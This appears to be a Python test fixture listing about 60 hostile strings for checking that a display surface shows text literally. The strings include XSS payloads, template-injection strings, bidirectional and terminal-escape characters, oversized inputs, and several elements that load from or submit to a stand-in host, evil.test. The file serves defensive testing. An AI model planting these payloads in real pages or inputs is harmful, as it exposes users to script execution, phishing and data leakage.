"""Texts that want to be more than text: 60 of them, for every field that a surface shows.

A surface shows each letter for letter. What is documented to be taken out of texts on their way in (control and
bidirectional characters, line breaks, more than a field may hold) is taken out before.
"""

from __future__ import annotations

_MB = 1 << 20

HOSTILE: dict[str, str] = {
    # elements and attributes
    "image": "<img src=x onerror=alert(1)>",
    "image, quoted": '<img src="x" onerror="alert(1)">',
    "script": "<script>alert(1)</script>",
    "end of a script": "</script><script>alert(1)</script>",
    "end of a style": "</style><script>alert(1)</script>",
    "end of a title": "</title><script>alert(1)</script>",
    "end of a text area": "</textarea><script>alert(1)</script>",
    "end of boxes": "</div></div></details></span><script>alert(1)</script>",
    "end of a comment": "--><script>alert(1)</script><!--",
    "character data": "<![CDATA[<script>alert(1)</script>]]>",
    "vector": "<svg onload=alert(1)>",
    "vector with a script": "<svg><script>alert(1)</script></svg>",
    "animation": "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "mathematics": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "frame": "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "frame elsewhere": "<iframe src=http://evil.test/></iframe>",
    "object": "<object data=javascript:alert(1)>",
    "embedded": "<embed src=http://evil.test/x.swf>",
    "link": '<a href="javascript:alert(1)">click</a>',
    "style sheet": "<link rel=stylesheet href=http://evil.test/x.css>",
    "style": "<style>@import url(http://evil.test/x.css);</style>",
    "base": "<base href=http://evil.test/>",
    "refresh": '<meta http-equiv=refresh content="0;url=http://evil.test/">',
    "form": "<form action=http://evil.test/><button>send</button></form>",
    "focus": "<input autofocus onfocus=alert(1)>",
    "video": "<video><source onerror=alert(1)></video>",
    "details": "<details open ontoggle=alert(1)>",
    "dialog": "<dialog open>pay here</dialog>",
    "template": "<template shadowrootmode=open><script>alert(1)</script></template>",
    "portal": "<object><param name=x value=http://evil.test/></object>",
    "out of an attribute": "\"' onmouseover=alert(1) x='",
    "out of a box": '"><script>alert(1)</script>',
    "unquoted": "x onclick=alert(1) y=",
    "entity": "&lt;script&gt;alert(1)&lt;/script&gt; &amp; &#60;img src=x onerror=alert(1)&#62;",
    "half an element": "<img src=x onerror=alert(1) ",
    # what runs by its place
    "address": "javascript:alert(1)",
    "address, spaced": "java script:alert(1) jAvAsCrIpT:alert(1)",
    "data": "data:text/html,<script>alert(1)</script>",
    "command": '<button data-commandlinker-command="application:close" data-commandlinker-args="{}">x</button>',
    "clobbered": "<b id=MathJax><b id=jupyterapp name=cookie>",
    "prototype": "__proto__",
    "constructor": "constructor",
    "template text": "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= alert(1) %>",
    "format": "{0} %s %(name)s {job}",
    "expression": "expression(alert(1));background:url(//evil.test/x)",
    "style of its own": "red;position:fixed;inset:0;background:url(http://evil.test/x)",
    "formula": "$\\href{javascript:alert(1)}{x}$ \\(\\unicode{x41}\\)",
    "markdown": "[click](javascript:alert(1)) ![x](http://evil.test/x.png)",
    "terminal markup": "[bold red]x[/bold red] [link=http://evil.test/]y[/link] :smile:",
    # characters
    "turned round": "\u202egnp.exe\u202c",
    "isolates": "a\u2066b\u2067c\u2068d\u2069e\u061cf\u200eg\u200fh",
    "terminal": "\x1b[31mred\x1b[0m\x1b]0;title\x07\x1b[2J\x9b31mx",
    "hyperlink": "\x1b]8;;http://evil.test/\x1b\\click\x1b]8;;\x1b\\",
    "nothing": "a\x00b",
    "over and over": "loading\rdone\x08\x08\x7f",
    "lines": "one\ntwo\r\nthree\u2028four\u2029five\x0bsix\x0cseven\x85eight",
    "half a character": "a\udcffb\ud800c",
    "piled up": "Z" + "\u0335\u0348\u034e" * 40 + "o",
    # sizes
    "a megabyte": "x" * _MB,
    "a megabyte of markup": "<b>" * (_MB // 3),
}
HARMLESS = "harmless"
